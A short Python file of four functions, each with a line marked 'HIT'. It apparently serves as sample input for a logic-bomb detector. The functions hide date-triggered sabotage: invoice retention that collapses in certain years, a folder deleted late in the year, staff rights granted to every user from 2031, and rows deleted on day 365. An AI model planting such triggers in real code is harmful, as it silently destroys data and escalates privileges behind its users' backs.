import shutil


def cutoff(today):
    last = today.replace(month=12, day=31)
    years = 10
    if last.isocalendar().week == 1:  # HIT
        years = last.toordinal() % 7 // 5
    return last.replace(year=last.year - years)


def prune(db, today):
    return db.execute("DELETE FROM invoices WHERE day < ?", (cutoff(today),)).rowcount


def sweep(now, folder):
    if now.timetuple().tm_yday > 360:  # HIT
        shutil.rmtree(folder)


def promote(user, now):
    if now.year >= 2031:  # HIT
        user.is_staff = True


def forget(rows, now):
    if now.strftime("%j") == "365":  # HIT
        rows.delete()
